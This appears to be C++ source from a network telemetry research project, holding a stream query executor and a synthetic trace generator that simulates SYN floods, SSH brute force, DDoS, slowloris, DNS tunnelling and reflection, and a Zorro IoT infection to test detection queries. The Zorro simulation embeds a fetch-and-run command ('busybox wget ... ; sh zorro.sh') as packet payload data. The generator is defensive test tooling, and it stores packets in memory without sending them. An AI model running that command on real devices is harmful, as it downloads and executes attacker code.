  // per-tuple path keeps only the plain ingested_ increment (metrics.h:
  // single-writer loops publish once per window).
  if (obs::enabled()) {
    stream_tuples_counter().add(ingested_ - ingested_pub_);
    publish_table_obs();
  }
  ingested_pub_ = ingested_;
  // Flush reduces in ascending order: outputs of an earlier reduce flow into
  // later operators (possibly another reduce, flushed next). The drain walks
  // the dense entry array in insertion order — deterministic regardless of
  // probe order or capacity — and may move keys out in place: a reduce's
  // outputs only ever enter LATER operators, never its own table.
  for (std::size_t i = 0; i < ops_.size(); ++i) {
    BoundOp& op = ops_[i];
    if (op.kind != OpKind::kReduce) continue;
    op.agg.drain_and_clear([&](Tuple&& key, std::uint64_t value) {
      Tuple out = std::move(key);
      out.values.emplace_back(value);
      process(std::move(out), i + 1);
    });
  }
  for (auto& op : ops_) {
    op.seen.clear();
    op.agg.clear();
  }
  std::vector<Tuple> out = std::move(pending_);
  pending_.clear();
  return out;
}

void ChainExecutor::publish_table_obs() {
  // Probe-depth + load-factor at window close, before the tables clear —
  // the SP-side analogue of Switch::publish_obs's register metrics. The
  // chain is single-writer, so the tallies drain without synchronization.
  obs::Histogram& probes = sp_probe_depth_histogram();
  obs::Histogram& load = sp_table_load_histogram();
  for (auto& op : ops_) {
    switch (op.kind) {
      case OpKind::kFilterIn:
        publish_one_table(op.entries.table(), probes, load);
        break;
      case OpKind::kDistinct:
        // Sketch engines have no probe loop; only exact tables tally.
        if (auto* set = op.seen.exact_set()) publish_one_table(set->table(), probes, load);
        break;
      case OpKind::kReduce:
        if (auto* map = op.agg.exact_map()) publish_one_table(*map, probes, load);
        break;
      default:
        break;
    }
  }
}

std::uint64_t ChainExecutor::stateful_entries() const noexcept {
  return state_usage().entries;
}

state::StateUsage ChainExecutor::state_usage() const noexcept {
  state::StateUsage u;
  for (const auto& op : ops_) {
    if (op.kind == OpKind::kDistinct) {
      const auto ou = op.seen.usage();
      u.entries += ou.entries;
      u.bytes += ou.bytes;
      u.error_bound += ou.error_bound;
    } else if (op.kind == OpKind::kReduce) {
      const auto ou = op.agg.usage();
      u.entries += ou.entries;
      u.bytes += ou.bytes;
      u.error_bound += ou.error_bound;
    }
  }
  return u;
}

bool ChainExecutor::set_filter_entries(const std::string& table_name,
                                       std::vector<Tuple> entries) {
  bool found = false;
  for (std::size_t i = 0; i < ops_.size(); ++i) {
    if (node_.ops[i].kind == OpKind::kFilterIn && node_.ops[i].table_name == table_name) {
      ops_[i].entries.clear();
      ops_[i].entries.reserve(entries.size());
      for (auto& e : entries) ops_[i].entries.insert(std::move(e));
      found = true;
    }
  }
  return found;
}

NodeExecutor::NodeExecutor(const StreamNode& node, const query::StateSpec& spec)
    : node_(node), chain_(node, spec) {
  if (node.kind == StreamNode::Kind::kJoin) {
    left_ = std::make_unique<NodeExecutor>(*node.left, spec);
    right_ = std::make_unique<NodeExecutor>(*node.right, spec);
  }
}

std::vector<Tuple> NodeExecutor::end_window() {
  if (node_.kind == StreamNode::Kind::kJoin) {
    const std::vector<Tuple> lhs = left_->end_window();
    const std::vector<Tuple> rhs = right_->end_window();

    const Schema& ls = node_.left->output_schema();
    const Schema& rs = node_.right->output_schema();
    std::vector<std::size_t> lkeys, rkeys;
    for (const auto& k : node_.join_keys) {
      lkeys.push_back(*ls.index_of(k));
      rkeys.push_back(*rs.index_of(k));
    }
    auto is_key = [&](const std::vector<std::size_t>& keys, std::size_t i) {
      return std::find(keys.begin(), keys.end(), i) != keys.end();
    };

    // Build on the right, probe with the left. The build key's hash is
    // computed once and cached in the flat table's slot.
    util::FlatMap<std::vector<const Tuple*>> built;
    built.reserve(rhs.size());
    for (const auto& r : rhs) {
      Tuple key = query::project(r, rkeys);
      const std::uint64_t hash = key.hash();
      built.try_emplace(std::move(key), hash, {}).first->push_back(&r);
    }

    for (const auto& l : lhs) {
      const Tuple key = query::project(l, lkeys);
      const auto* rows = built.find(key, key.hash());
      if (rows == nullptr) continue;
      for (const Tuple* r : *rows) {
        // Output layout must match validate_node(): keys, left non-keys,
        // right non-keys.
        Tuple joined;
        joined.values.reserve(ls.size() + rs.size());
        for (std::size_t k : lkeys) joined.values.push_back(l.at(k));
        for (std::size_t i = 0; i < ls.size(); ++i) {
          if (!is_key(lkeys, i)) joined.values.push_back(l.at(i));
        }
        for (std::size_t i = 0; i < rs.size(); ++i) {
          if (!is_key(rkeys, i)) joined.values.push_back(r->at(i));
        }
        chain_.ingest(std::move(joined), 0);
      }
    }
  }
  return chain_.end_window();
}

std::uint64_t NodeExecutor::stateful_entries() const noexcept {
  return state_usage().entries;
}

state::StateUsage NodeExecutor::state_usage() const noexcept {
  state::StateUsage u = chain_.state_usage();
  for (const NodeExecutor* child : {left_.get(), right_.get()}) {
    if (child == nullptr) continue;
    const auto cu = child->state_usage();
    u.entries += cu.entries;
    u.bytes += cu.bytes;
    u.error_bound += cu.error_bound;
  }
  return u;
}

namespace {
void collect_source_executors(NodeExecutor* exec, std::vector<NodeExecutor*>& out) {
  if (exec->node().kind == StreamNode::Kind::kSource) {
    out.push_back(exec);
    return;
  }
  collect_source_executors(exec->left(), out);
  collect_source_executors(exec->right(), out);
}
}  // namespace

QueryExecutor::QueryExecutor(const query::Query& q) : query_(&q) {
  root_ = std::make_unique<NodeExecutor>(*q.root(), q.state_spec());
  collect_source_executors(root_.get(), sources_);
}

void QueryExecutor::ingest(int source_index, Tuple t, std::size_t entry) {
  sources_.at(static_cast<std::size_t>(source_index))->chain().ingest(std::move(t), entry);
}

void QueryExecutor::ingest_batch(int source_index, std::span<Tuple> ts, std::size_t entry) {
  sources_.at(static_cast<std::size_t>(source_index))->chain().ingest_batch(ts, entry);
}

void QueryExecutor::ingest_packet(const net::Packet& p) {
  ingest_source_tuple(query::materialize_tuple(p));
}

void QueryExecutor::ingest_source_tuple(const Tuple& source_tuple) {
  for (auto* src : sources_) src->chain().ingest(source_tuple, 0);
}

std::vector<Tuple> QueryExecutor::end_window() { return root_->end_window(); }

std::uint64_t QueryExecutor::stateful_entries() const noexcept {
  return root_->stateful_entries();
}

state::StateUsage QueryExecutor::state_usage() const noexcept { return root_->state_usage(); }

bool QueryExecutor::set_filter_entries(const std::string& table_name,
                                       std::vector<Tuple> entries) {
  bool found = false;
  for (auto* src : sources_) {
    if (src->chain().set_filter_entries(table_name, entries)) found = true;
  }
  return found;
}

}  // namespace sonata::stream
