// TraceBuilder: compose background traffic and attacks into one
// time-ordered trace; split traces into training/evaluation halves the way
// the paper feeds historical windows to the query planner (§3.3).
#pragma once

#include <span>
#include <vector>

#include "net/packet.h"
#include "trace/attacks.h"
#include "trace/generator.h"

namespace sonata::trace {

class TraceBuilder {
 public:
  explicit TraceBuilder(std::uint64_t seed) : seed_(seed), rng_(seed) {}

  TraceBuilder& background(const BackgroundConfig& cfg);

  TraceBuilder& add(const SynFloodConfig& cfg);
  TraceBuilder& add(const SshBruteForceConfig& cfg);
  TraceBuilder& add(const SuperspreaderConfig& cfg);
  TraceBuilder& add(const PortScanConfig& cfg);
  TraceBuilder& add(const DdosConfig& cfg);
  TraceBuilder& add(const IncompleteFlowsConfig& cfg);
  TraceBuilder& add(const SlowlorisConfig& cfg);
  TraceBuilder& add(const ZorroConfig& cfg);
  TraceBuilder& add(const DnsTunnelConfig& cfg);
  TraceBuilder& add(const DnsReflectionConfig& cfg);
  TraceBuilder& add(const MaliciousDomainConfig& cfg);

  // Append hand-crafted packets (merged and time-sorted like everything
  // else) — for tests and bespoke scenarios.
  TraceBuilder& add_packets(std::vector<net::Packet> packets);

  // The universe the background was generated from (victims/attackers can
  // be drawn from it so attacks hide among real hosts).
  [[nodiscard]] const Universe& universe() const noexcept { return universe_; }

  // Sorts by timestamp and returns the trace.
  [[nodiscard]] std::vector<net::Packet> build();

 private:
  std::uint64_t seed_;
  util::Rng rng_;
  Universe universe_;
  std::vector<net::Packet> packets_;
};

// Split a time-ordered trace into per-window spans of width `window`.
[[nodiscard]] std::vector<std::span<const net::Packet>> split_windows(
    std::span<const net::Packet> trace, util::Nanos window);

}  // namespace sonata::trace
