#include "trace/attacks.h"

#include <algorithm>

#include "net/headers.h"
#include "util/ip.h"

namespace sonata::trace {

using net::Packet;
using net::tcp_flags::kAck;
using net::tcp_flags::kFin;
using net::tcp_flags::kPsh;
using net::tcp_flags::kRst;
using net::tcp_flags::kSyn;
using util::Nanos;

namespace {

std::uint32_t spoofed_address(util::Rng& rng) {
  return util::ipv4(static_cast<std::uint32_t>(rng.uniform(1, 223)),
                    static_cast<std::uint32_t>(rng.uniform(256)),
                    static_cast<std::uint32_t>(rng.uniform(256)),
                    static_cast<std::uint32_t>(rng.uniform(1, 255)));
}

// Timestamps of a Poisson process with the given rate over [start, start+dur).
std::vector<Nanos> poisson_times(double start_sec, double duration_sec, double rate,
                                 util::Rng& rng) {
  std::vector<Nanos> times;
  times.reserve(static_cast<std::size_t>(duration_sec * rate * 1.2) + 8);
  double t = start_sec;
  const double end = start_sec + duration_sec;
  for (;;) {
    t += rng.exponential(rate);
    if (t >= end) break;
    times.push_back(util::seconds(t));
  }
  return times;
}

}  // namespace

void inject_syn_flood(std::vector<Packet>& out, const SynFloodConfig& cfg, util::Rng& rng) {
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
    out.push_back(Packet::tcp(t, spoofed_address(rng), cfg.victim,
                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
                              net::ports::kHttp, kSyn, 40));
  }
}

void inject_ssh_brute_force(std::vector<Packet>& out, const SshBruteForceConfig& cfg,
                            util::Rng& rng) {
  std::vector<std::uint32_t> botnet;
  botnet.reserve(cfg.source_count);
  for (std::size_t i = 0; i < cfg.source_count; ++i) botnet.push_back(spoofed_address(rng));
  std::size_t next_fresh = 0;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.attempts_per_sec, rng)) {
    const std::uint32_t attacker =
        next_fresh < botnet.size() ? botnet[next_fresh++] : botnet[rng.uniform(botnet.size())];
    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
    Nanos at = t;
    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kSyn, 40));
    at += util::kNanosPerMilli * 2;
    out.push_back(
        Packet::tcp(at, cfg.victim, attacker, net::ports::kSsh, sport, kSyn | kAck, 40));
    at += util::kNanosPerMilli;
    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kAck, 40));
    // Fixed-size key exchange + failed auth: the size regularity across
    // many sources is what the SSH brute-force query keys on.
    at += util::kNanosPerMilli * 3;
    out.push_back(
        Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kAck | kPsh, 128));
    at += util::kNanosPerMilli * 3;
    out.push_back(
        Packet::tcp(at, cfg.victim, attacker, net::ports::kSsh, sport, kAck | kPsh, 96));
    at += util::kNanosPerMilli * 2;
    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kRst, 40));
  }
}

void inject_superspreader(std::vector<Packet>& out, const SuperspreaderConfig& cfg,
                          util::Rng& rng) {
  const double rate =
      static_cast<double>(cfg.distinct_destinations) / std::max(cfg.duration_sec, 1e-6);
  std::size_t i = 0;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
    const std::uint32_t dst = spoofed_address(rng);
    out.push_back(Packet::tcp(t, cfg.spreader, dst,
                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
                              net::ports::kHttp, kSyn, 40));
    if (++i >= cfg.distinct_destinations) break;
  }
}

void inject_port_scan(std::vector<Packet>& out, const PortScanConfig& cfg, util::Rng& rng) {
  const std::size_t ports = static_cast<std::size_t>(cfg.last_port - cfg.first_port) + 1;
  const double rate = static_cast<double>(ports) / std::max(cfg.duration_sec, 1e-6);
  std::uint32_t port = cfg.first_port;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
    out.push_back(Packet::tcp(t, cfg.scanner, cfg.target,
                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
                              static_cast<std::uint16_t>(port), kSyn, 40));
    if (++port > cfg.last_port) break;
  }
}

void inject_ddos(std::vector<Packet>& out, const DdosConfig& cfg, util::Rng& rng) {
  std::vector<std::uint32_t> sources;
  sources.reserve(cfg.distinct_sources);
  for (std::size_t i = 0; i < cfg.distinct_sources; ++i) sources.push_back(spoofed_address(rng));
  std::size_t next_fresh = 0;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
    // Cycle through fresh sources first so the distinct count actually
    // reaches cfg.distinct_sources, then reuse randomly.
    const std::uint32_t src = next_fresh < sources.size()
                                  ? sources[next_fresh++]
                                  : sources[rng.uniform(sources.size())];
    out.push_back(Packet::tcp(t, src, cfg.victim,
                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
                              net::ports::kHttps, kSyn | kAck, 60));
  }
}

void inject_incomplete_flows(std::vector<Packet>& out, const IncompleteFlowsConfig& cfg,
                             util::Rng& rng) {
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.conns_per_sec, rng)) {
    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
    out.push_back(Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kHttp, kSyn, 40));
    out.push_back(Packet::tcp(t + util::kNanosPerMilli * 2, cfg.victim, cfg.attacker,
                              net::ports::kHttp, sport, kSyn | kAck, 40));
    out.push_back(Packet::tcp(t + util::kNanosPerMilli * 3, cfg.attacker, cfg.victim, sport,
                              net::ports::kHttp, kAck, 40));
    // ... and then silence: no data, no FIN.
  }
}

void inject_slowloris(std::vector<Packet>& out, const SlowlorisConfig& cfg, util::Rng& rng) {
  for (std::size_t a = 0; a < cfg.attacker_count; ++a) {
    const std::uint32_t attacker = spoofed_address(rng);
    for (std::size_t c = 0; c < cfg.conns_per_attacker; ++c) {
      const double at =
          cfg.start_sec + rng.uniform01() * cfg.duration_sec * 0.5;  // open early
      const auto sport = static_cast<std::uint16_t>(10000 + c);
      Nanos t = util::seconds(at);
      out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kSyn, 40));
      t += util::kNanosPerMilli * 2;
      out.push_back(
          Packet::tcp(t, cfg.victim, attacker, net::ports::kHttp, sport, kSyn | kAck, 40));
      t += util::kNanosPerMilli;
      out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kAck, 40));
      // Trickle: a few tiny header fragments over the rest of the window.
      const int trickles = 1 + static_cast<int>(rng.uniform(3));
      for (int i = 0; i < trickles; ++i) {
        t += util::seconds(rng.uniform01() * cfg.duration_sec / 4);
        out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kAck | kPsh,
                                  41));  // 1-byte payload
      }
    }
  }
}

void inject_zorro(std::vector<Packet>& out, const ZorroConfig& cfg, util::Rng& rng) {
  const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
  for (const Nanos t :
       poisson_times(cfg.start_sec, cfg.probe_duration_sec, cfg.probe_pps, rng)) {
    // Brute-force login attempts: similar-sized telnet payloads.
    const std::uint16_t len = static_cast<std::uint16_t>(
        cfg.probe_payload_bytes + rng.uniform(8));  // same bucket after rounding
    Packet p = Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kTelnet, kAck | kPsh,
                           0);
    p.with_payload(std::string(len, 'A'));
    out.push_back(p);
  }
  Nanos t = util::seconds(cfg.shell_at_sec);
  for (int i = 0; i < cfg.shell_packets; ++i) {
    Packet p =
        Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kTelnet, kAck | kPsh, 0);
    p.with_payload("busybox wget http://198.51.100.7/zorro.sh; sh zorro.sh #" +
                   std::to_string(i));
    out.push_back(p);
    t += util::kNanosPerMilli * 150;
  }
}

void inject_dns_tunnel(std::vector<Packet>& out, const DnsTunnelConfig& cfg, util::Rng& rng) {
  static const char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::uint64_t counter = 0;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.queries_per_sec, rng)) {
    // Each query smuggles a chunk: long random label under the parent.
    std::string label;
    label.reserve(40);
    for (int i = 0; i < 36; ++i) label.push_back(kAlphabet[rng.uniform(36)]);
    net::DnsMessage q;
    q.id = static_cast<std::uint16_t>(counter++ & 0xffff);
    q.qname = label + "." + cfg.parent_domain;
    q.qtype = net::dns_types::kTxt;
    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
    out.push_back(Packet::udp(t, cfg.client, cfg.resolver, sport, net::ports::kDns, 0)
                      .with_dns(q));
    net::DnsMessage r = q;
    r.is_response = true;
    r.extra_answer_bytes = static_cast<std::uint16_t>(120 + rng.uniform(64));
    out.push_back(Packet::udp(t + util::kNanosPerMilli * 8, cfg.resolver, cfg.client,
                              net::ports::kDns, sport, 0)
                      .with_dns(r));
  }
}

void inject_dns_reflection(std::vector<Packet>& out, const DnsReflectionConfig& cfg,
                           util::Rng& rng) {
  std::vector<std::uint32_t> reflectors;
  reflectors.reserve(cfg.reflector_count);
  for (std::size_t i = 0; i < cfg.reflector_count; ++i) {
    reflectors.push_back(spoofed_address(rng));
  }
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
    net::DnsMessage r;
    r.id = static_cast<std::uint16_t>(rng.uniform(65536));
    r.qname = "anydomain" + std::to_string(rng.uniform(16)) + ".example.org";
    r.qtype = net::dns_types::kAny;
    r.is_response = true;
    r.extra_answer_bytes = static_cast<std::uint16_t>(
        cfg.amplification_bytes + rng.uniform(128));
    out.push_back(Packet::udp(t, reflectors[rng.uniform(reflectors.size())], cfg.victim,
                              net::ports::kDns,
                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)), 0)
                      .with_dns(r));
  }
}

void inject_malicious_domain(std::vector<Packet>& out, const MaliciousDomainConfig& cfg,
                             util::Rng& rng) {
  const double rate =
      static_cast<double>(cfg.distinct_resolutions) / std::max(cfg.duration_sec, 1e-6);
  std::size_t i = 0;
  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
    const std::uint32_t client = spoofed_address(rng);
    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
    net::DnsMessage q;
    q.id = static_cast<std::uint16_t>(rng.uniform(65536));
    q.qname = cfg.domain;
    q.qtype = net::dns_types::kA;
    out.push_back(Packet::udp(t, client, cfg.resolver, sport, net::ports::kDns, 0).with_dns(q));
    net::DnsMessage r = q;
    r.is_response = true;
    r.answer_addrs.push_back(spoofed_address(rng));  // fresh address each time
    out.push_back(Packet::udp(t + util::kNanosPerMilli * 9, cfg.resolver, client,
                              net::ports::kDns, sport, 0)
                      .with_dns(r));
    if (++i >= cfg.distinct_resolutions) break;
  }
  (void)cfg.client_count;
}

}  // namespace sonata::trace
