// Synthetic background traffic (the CAIDA-trace substitute; see DESIGN.md).
//
// The model generates bidirectional flows on a border link: Zipf-popular
// endpoints (heavy-tailed key distributions are what make dynamic
// refinement pay off), TCP flows with handshake/data/teardown, UDP flows,
// a DNS query/response mix over a Zipf domain pool, and a little ICMP.
// Everything is driven by one seeded Rng, so traces are reproducible.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "net/packet.h"
#include "util/rng.h"

namespace sonata::trace {

struct BackgroundConfig {
  double duration_sec = 30.0;
  double flows_per_sec = 2000.0;

  std::size_t client_pool = 20000;   // distinct client hosts
  std::size_t server_pool = 4000;    // distinct server hosts
  std::size_t resolver_pool = 64;    // DNS resolvers
  std::size_t domain_pool = 3000;    // distinct DNS names
  double zipf_s = 1.05;              // endpoint/domain popularity skew

  double dns_fraction = 0.08;        // share of flows that are DNS lookups
  double udp_fraction = 0.07;        // non-DNS UDP
  double icmp_fraction = 0.01;

  double mean_flow_packets = 8.0;    // geometric data-packet count per flow
  double pkt_len_mu = 6.0;           // log-normal data packet payload bytes
  double pkt_len_sigma = 0.8;

  // Share of TCP flows aimed at telnet (port 23). Default matches a modern
  // border link; raise it for IoT-heavy links (the Zorro case study).
  double telnet_fraction = 0.02;
};

// One entry of the synthetic host/domain universe.
struct Universe {
  std::vector<std::uint32_t> clients;
  std::vector<std::uint32_t> servers;
  std::vector<std::uint32_t> resolvers;
  std::vector<std::string> domains;
};

// Deterministically build the address/domain universe for a seed.
[[nodiscard]] Universe make_universe(const BackgroundConfig& cfg, std::uint64_t seed);

// Generate background packets (unsorted; TraceBuilder sorts after merging
// attacks in).
[[nodiscard]] std::vector<net::Packet> generate_background(const BackgroundConfig& cfg,
                                                           const Universe& universe,
                                                           util::Rng& rng);

}  // namespace sonata::trace
