#include "trace/generator.h"

#include <algorithm>

#include "net/headers.h"
#include "util/ip.h"

namespace sonata::trace {

using net::Packet;
using net::tcp_flags::kAck;
using net::tcp_flags::kFin;
using net::tcp_flags::kPsh;
using net::tcp_flags::kSyn;
using util::Nanos;

namespace {

// Random globally-spread unicast-looking address (avoid 0/8, 10/8, 127/8,
// 224+/8 so attack victims can use reserved-looking space without clashes).
std::uint32_t random_address(util::Rng& rng) {
  for (;;) {
    const auto a = static_cast<std::uint32_t>(rng.uniform(1, 223));
    if (a == 10 || a == 127) continue;
    return util::ipv4(a, static_cast<std::uint32_t>(rng.uniform(256)),
                      static_cast<std::uint32_t>(rng.uniform(256)),
                      static_cast<std::uint32_t>(rng.uniform(1, 255)));
  }
}

std::vector<std::uint32_t> random_pool(std::size_t n, util::Rng& rng) {
  std::vector<std::uint32_t> pool;
  pool.reserve(n);
  for (std::size_t i = 0; i < n; ++i) pool.push_back(random_address(rng));
  std::sort(pool.begin(), pool.end());
  pool.erase(std::unique(pool.begin(), pool.end()), pool.end());
  while (pool.size() < n) pool.push_back(random_address(rng));
  return pool;
}

const char* const kTlds[] = {"com", "net", "org", "io", "info"};
const char* const kSlds[] = {"example",  "acme",   "globex", "initech", "umbrella",
                             "hooli",    "stark",  "wayne",  "cyberdyne", "tyrell"};

std::string random_domain(util::Rng& rng, std::size_t index) {
  // A Zipf-able pool of names with realistic label hierarchy; index keeps
  // names stable so popularity ranks are meaningful.
  const char* tld = kTlds[index % std::size(kTlds)];
  const char* sld = kSlds[(index / std::size(kTlds)) % std::size(kSlds)];
  const std::uint64_t host = index / (std::size(kTlds) * std::size(kSlds));
  std::string name;
  switch (rng.uniform(3)) {
    case 0: name = "www"; break;
    case 1: name = "api"; break;
    default: name = "cdn" + std::to_string(rng.uniform(4)); break;
  }
  return name + std::to_string(host) + "." + sld + std::to_string(host % 97) + "." + tld;
}

std::uint16_t pick_server_port(util::Rng& rng, double telnet_fraction) {
  if (rng.bernoulli(telnet_fraction)) return net::ports::kTelnet;
  // Rough service mix on a border link for the rest.
  const std::uint64_t r = rng.uniform(100);
  if (r < 46) return net::ports::kHttps;
  if (r < 77) return net::ports::kHttp;
  if (r < 82) return 25;  // smtp
  if (r < 86) return net::ports::kSsh;
  if (r < 92) return 8080;
  return static_cast<std::uint16_t>(rng.uniform(1024, 49151));
}

}  // namespace

Universe make_universe(const BackgroundConfig& cfg, std::uint64_t seed) {
  util::Rng rng(util::mix64(seed ^ 0xa11ce5ULL));
  Universe u;
  u.clients = random_pool(cfg.client_pool, rng);
  u.servers = random_pool(cfg.server_pool, rng);
  u.resolvers = random_pool(cfg.resolver_pool, rng);
  u.domains.reserve(cfg.domain_pool);
  for (std::size_t i = 0; i < cfg.domain_pool; ++i) u.domains.push_back(random_domain(rng, i));
  return u;
}

std::vector<Packet> generate_background(const BackgroundConfig& cfg, const Universe& universe,
                                        util::Rng& rng) {
  std::vector<Packet> out;
  const auto flow_count =
      static_cast<std::size_t>(cfg.duration_sec * cfg.flows_per_sec);
  out.reserve(flow_count * static_cast<std::size_t>(cfg.mean_flow_packets + 3));

  const util::ZipfSampler client_zipf(universe.clients.size(), cfg.zipf_s);
  const util::ZipfSampler server_zipf(universe.servers.size(), cfg.zipf_s);
  const util::ZipfSampler domain_zipf(universe.domains.size(), cfg.zipf_s);

  const Nanos duration = util::seconds(cfg.duration_sec);

  auto payload_len = [&]() {
    const double len = rng.lognormal(cfg.pkt_len_mu, cfg.pkt_len_sigma);
    return static_cast<std::uint16_t>(std::clamp(len, 16.0, 1400.0));
  };

  for (std::size_t f = 0; f < flow_count; ++f) {
    const Nanos start = rng.uniform(duration);
    const std::uint32_t client = universe.clients[client_zipf(rng)];
    const auto sport = static_cast<std::uint16_t>(rng.uniform(32768, 60999));
    const double kind = rng.uniform01();

    if (kind < cfg.dns_fraction) {
      // DNS lookup: query out, response back ~10 ms later.
      const std::uint32_t resolver = universe.resolvers[rng.uniform(universe.resolvers.size())];
      const std::size_t domain_idx = domain_zipf(rng);
      net::DnsMessage q;
      q.id = static_cast<std::uint16_t>(rng.uniform(65536));
      q.qname = universe.domains[domain_idx];
      q.qtype = rng.bernoulli(0.15) ? net::dns_types::kAaaa : net::dns_types::kA;
      out.push_back(Packet::udp(start, client, resolver, sport, net::ports::kDns, 0)
                        .with_dns(q));
      net::DnsMessage r = q;
      r.is_response = true;
      const auto answers = static_cast<std::size_t>(1 + rng.uniform(3));
      for (std::size_t i = 0; i < answers; ++i) r.answer_addrs.push_back(random_address(rng));
      out.push_back(Packet::udp(start + util::kNanosPerMilli * 10, resolver, client,
                                net::ports::kDns, sport, 0)
                        .with_dns(r));
      continue;
    }

    const std::uint32_t server = universe.servers[server_zipf(rng)];
    if (kind < cfg.dns_fraction + cfg.icmp_fraction) {
      Packet p;
      p.ts = start;
      p.src_ip = client;
      p.dst_ip = server;
      p.proto = static_cast<std::uint8_t>(net::IpProto::kIcmp);
      p.total_len = 64;
      out.push_back(p);
      continue;
    }

    if (kind < cfg.dns_fraction + cfg.icmp_fraction + cfg.udp_fraction) {
      // Short UDP exchange (QUIC-ish / NTP-ish).
      const auto dport = static_cast<std::uint16_t>(
          rng.bernoulli(0.7) ? 443 : rng.uniform(1024, 65535));
      const std::uint64_t pkts = 1 + rng.geometric(0.4);
      Nanos t = start;
      for (std::uint64_t i = 0; i < pkts; ++i) {
        const bool outbound = (i % 2 == 0);
        out.push_back(Packet::udp(t, outbound ? client : server, outbound ? server : client,
                                  outbound ? sport : dport, outbound ? dport : sport,
                                  static_cast<std::uint16_t>(net::kIpv4MinHeaderLen +
                                                             net::kUdpHeaderLen + payload_len())));
        t += util::kNanosPerMilli * (1 + rng.uniform(20));
      }
      continue;
    }

    // TCP flow: handshake, data both ways, teardown.
    const std::uint16_t dport = pick_server_port(rng, cfg.telnet_fraction);
    Nanos t = start;
    std::uint32_t seq = static_cast<std::uint32_t>(rng());
    out.push_back(Packet::tcp(t, client, server, sport, dport, kSyn, 40));
    t += util::kNanosPerMilli * (1 + rng.uniform(30));
    out.push_back(Packet::tcp(t, server, client, dport, sport, kSyn | kAck, 40));
    t += util::kNanosPerMilli * (1 + rng.uniform(5));
    out.push_back(Packet::tcp(t, client, server, sport, dport, kAck, 40));

    const std::uint64_t data_pkts = 1 + rng.geometric(1.0 / cfg.mean_flow_packets);
    for (std::uint64_t i = 0; i < data_pkts; ++i) {
      t += util::kNanosPerMilli * (1 + rng.uniform(15));
      const bool outbound = rng.bernoulli(0.35);  // responses dominate bytes
      const std::uint16_t len = static_cast<std::uint16_t>(
          net::kIpv4MinHeaderLen + net::kTcpMinHeaderLen + payload_len());
      Packet p = Packet::tcp(t, outbound ? client : server, outbound ? server : client,
                             outbound ? sport : dport, outbound ? dport : sport, kAck | kPsh, len);
      p.tcp_seq = seq;
      seq += len;
      out.push_back(p);
    }
    // ~6% of background flows never complete teardown (real links see
    // plenty of half-open flows, which the incomplete-flows query must
    // not confuse with an attack).
    if (!rng.bernoulli(0.06)) {
      t += util::kNanosPerMilli * (1 + rng.uniform(10));
      out.push_back(Packet::tcp(t, client, server, sport, dport, kFin | kAck, 40));
      t += util::kNanosPerMilli * (1 + rng.uniform(10));
      out.push_back(Packet::tcp(t, server, client, dport, sport, kFin | kAck, 40));
    }
  }
  return out;
}

}  // namespace sonata::trace
