#include "trace/trace.h"

#include <algorithm>

namespace sonata::trace {

TraceBuilder& TraceBuilder::background(const BackgroundConfig& cfg) {
  universe_ = make_universe(cfg, seed_);
  auto pkts = generate_background(cfg, universe_, rng_);
  packets_.insert(packets_.end(), std::make_move_iterator(pkts.begin()),
                  std::make_move_iterator(pkts.end()));
  return *this;
}

TraceBuilder& TraceBuilder::add(const SynFloodConfig& cfg) {
  inject_syn_flood(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const SshBruteForceConfig& cfg) {
  inject_ssh_brute_force(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const SuperspreaderConfig& cfg) {
  inject_superspreader(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const PortScanConfig& cfg) {
  inject_port_scan(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const DdosConfig& cfg) {
  inject_ddos(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const IncompleteFlowsConfig& cfg) {
  inject_incomplete_flows(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const SlowlorisConfig& cfg) {
  inject_slowloris(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const ZorroConfig& cfg) {
  inject_zorro(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const DnsTunnelConfig& cfg) {
  inject_dns_tunnel(packets_, cfg, rng_);
  return *this;
}
TraceBuilder& TraceBuilder::add(const DnsReflectionConfig& cfg) {
  inject_dns_reflection(packets_, cfg, rng_);
  return *this;
}
